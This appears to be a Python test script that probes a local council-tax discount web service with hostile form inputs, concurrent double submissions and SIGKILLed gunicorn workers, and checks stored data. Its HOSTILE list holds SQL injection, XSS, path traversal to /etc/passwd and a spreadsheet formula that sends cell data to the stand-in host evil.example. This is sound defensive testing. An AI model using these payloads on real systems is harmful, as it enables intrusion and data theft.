"""Reliability probes, rerun from the security review: hostile inputs, races and kill -9,
against gunicorn (2 sync workers) on SQLite or PostgreSQL. Prints the figures.

    .venv/bin/python bench/probes.py [--database URL] [--port 5145]
"""

from __future__ import annotations

import argparse
import json
import os
import re
import shutil
import signal
import sys
import tempfile
import threading
import time
from collections import Counter
from pathlib import Path

import requests

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from sqlalchemy import create_engine, text  # noqa: E402

from bench.http_bench import Server, prepare_database  # noqa: E402

SERVICE = "council-tax-single-person-discount"
TOKEN = re.compile(r'name="csrf_token" value="([^"]+)"')
ANSWERS = [
    ("account-number", {"account_number": "51234567"}),
    ("other-adults", {"other_adults": "no"}),
    ("date-alone", {"date_from-day": "1", "date_from-month": "2", "date_from-year": "2020"}),
    (
        "about-you",
        {
            "full_name": "Probe Person",
            "date_of_birth-day": "3",
            "date_of_birth-month": "4",
            "date_of_birth-year": "1960",
        },
    ),
]
HOSTILE = [
    "\x00",
    "a\x00b",
    "\x1b[31m",
    "1e1000000",
    "1e5000",
    "9" * 5000,
    "-" * 300,
    "' OR 1=1 --",
    "<script>alert(1)</script>",
    '=HYPERLINK("http://evil.example/?d="&A2,"Click")',
    "\ud800".encode("utf-8", "surrogatepass").decode("latin-1"),
    "x" * 200_000,
    "%00",
    "../../etc/passwd",
    "\u202e\u0000",
]


class Browser:
    def __init__(self, base: str) -> None:
        self.base = base
        self.session = requests.Session()

    def token(self, path: str) -> str:
        found = TOKEN.search(self.session.get(self.base + path, timeout=30).text)
        return found.group(1) if found else ""

    def post(self, path: str, data: dict[str, str], token: str | None = None) -> int:
        data = {**data, "csrf_token": token if token is not None else self.token(path)}
        response = self.session.post(self.base + path, data=data, timeout=60, allow_redirects=False)
        return response.status_code


def hostile(base: str, database: str) -> Counter[int]:
    """Every hostile value in every field of the first pages, the sign-in and the search."""
    statuses: Counter[int] = Counter()
    staff = Browser(base)
    staff.post("/staff/sign-in", {"email": "agent@probe.example", "password": "probe-password-1"})
    for value in HOSTILE:
        resident = Browser(base)
        for page, data in ANSWERS:
            for field in data:
                statuses[resident.post(f"/{SERVICE}/{page}", {**data, field: value})] += 1
            resident.post(f"/{SERVICE}/{page}", data)
        statuses[Browser(base).post("/staff/sign-in", {"email": value, "password": value})] += 1
        statuses[staff.post("/staff/find", {"reference": value}, staff.token("/staff/"))] += 1
        response = staff.session.get(base + "/staff/drafts/" + value, timeout=30)
        statuses[response.status_code] += 1
    return statuses


def together(count: int, action) -> list[int]:  # type: ignore[no-untyped-def]
    barrier = threading.Barrier(count)
    statuses = [0] * count

    def run(index: int) -> None:
        barrier.wait()
        try:
            statuses[index] = action(index)
        except requests.RequestException:
            statuses[index] = -1

    threads = [threading.Thread(target=run, args=(i,)) for i in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return statuses


def ready_to_submit(base: str, name: str) -> Browser:
    browser = Browser(base)
    for page, data in ANSWERS:
        browser.post(
            f"/{SERVICE}/{page}", {**data, "full_name": name} if "full_name" in data else data
        )
    return browser


def races(base: str, drafts: int) -> tuple[Counter[int], Counter[int]]:
    """`drafts` drafts each submitted by 2 requests at once (all at once), then 6 concurrent
    saves to one draft, repeated."""
    browsers = [ready_to_submit(base, f"Race {i}") for i in range(drafts)]
    tokens = [b.token(f"/{SERVICE}/check-answers") for b in browsers]
    submits = Counter(
        together(
            2 * drafts,
            lambda i: browsers[i // 2].post(f"/{SERVICE}/check-answers", {}, tokens[i // 2]),
        )
    )
    saves: Counter[int] = Counter()
    for round_ in range(10):
        browser = ready_to_submit(base, f"Saver {round_}")
        token = browser.token(f"/{SERVICE}/about-you")
        data = dict(ANSWERS[3][1])
        saves.update(
            together(
                6,
                lambda i, d=data, b=browser, t=token: b.post(
                    f"/{SERVICE}/about-you", {**d, "full_name": f"Saver {i}"}, t
                ),
            )
        )
    return submits, saves


def kill_workers(base: str, server: Server) -> tuple[int, int]:
    """Answer pages while every worker is killed with SIGKILL; then check every answer that
    got its redirect was stored."""
    done: list[str] = []
    stop = threading.Event()

    def resident(index: int) -> None:
        n = 0
        while not stop.is_set():
            name = f"Killed {index} {n}"
            n += 1
            try:
                browser = ready_to_submit(base, name)
                if browser.post(f"/{SERVICE}/check-answers", {}) == 302:
                    done.append(name)
            except requests.RequestException:
                pass

    threads = [threading.Thread(target=resident, args=(i,)) for i in range(4)]
    for thread in threads:
        thread.start()
    for _ in range(3):
        time.sleep(2)
        for pid in server.pids()[1:]:
            os.kill(pid, signal.SIGKILL)
    time.sleep(3)
    stop.set()
    for thread in threads:
        thread.join()
    return len(done), len(set(done))


def main() -> None:
    parser = argparse.ArgumentParser(
        description=(__doc__ or "").split("\n\n")[0].replace("\n", " ")
    )
    parser.add_argument("--database", default="")
    parser.add_argument("--port", type=int, default=5145)
    parser.add_argument("--drafts", type=int, default=50)
    args = parser.parse_args()
    work = Path(tempfile.mkdtemp(prefix="bench-probes-"))
    database = args.database or f"sqlite:///{work}/probes.db"
    env = {
        "SERVICE_BUILDER_ENV": "test",
        "SECRET_KEY": "probes",
        "DATABASE_URL": database,
        "SUBMIT_RATE_LIMIT": "100000 per minute",  # every probe sends from 127.0.0.1
    }
    run_env = {**os.environ, **env}
    prepare_database(run_env, "agent@probe.example", "probe-password-1")
    engine = create_engine(database)
    with engine.begin() as connection:
        before = connection.scalar(text("SELECT max(id) FROM submissions")) or 0
    server = Server("service_builder:create_app()", args.port, env, work / "server.log")
    base = f"http://127.0.0.1:{args.port}"
    try:
        statuses = hostile(base, database)
        submits, saves = races(base, args.drafts)
        confirmed, unique = kill_workers(base, server)
        time.sleep(2)
    finally:
        server.stop()
    with engine.begin() as connection:
        rows = connection.execute(
            text("SELECT answers FROM submissions WHERE id > :before"), {"before": before}
        ).all()
    engine.dispose()
    parsed = [json.loads(a) if isinstance(a, str) else a for (a,) in rows]
    names = Counter(str(answers.get("full_name")) for answers in parsed)
    races_stored = sum(1 for name in names if name.startswith("Race "))
    duplicates = sum(1 for count in names.values() if count > 1)
    killed_stored = sum(1 for name in names if name.startswith("Killed "))
    server_errors = sum(count for status, count in statuses.items() if status >= 500)
    kind = "PostgreSQL" if args.database else "SQLite"
    print(f"\nReliability probes, gunicorn 2 sync workers, {kind}")
    print(
        f"hostile requests {sum(statuses.values())}: {dict(sorted(statuses.items()))}; "
        f"5xx {server_errors}"
    )
    print(
        f"double submits of {args.drafts} drafts ({2 * args.drafts} requests at once): "
        f"{dict(submits)}; submissions stored {races_stored}; duplicated {duplicates}"
    )
    print(f"6 concurrent saves to one draft, 10 times: {dict(saves)}")
    print(
        f"kill -9 of every worker 3 times: {confirmed} confirmed submissions "
        f"({unique} distinct), {killed_stored} stored"
    )
    shutil.rmtree(work, ignore_errors=True)


if __name__ == "__main__":
    main()
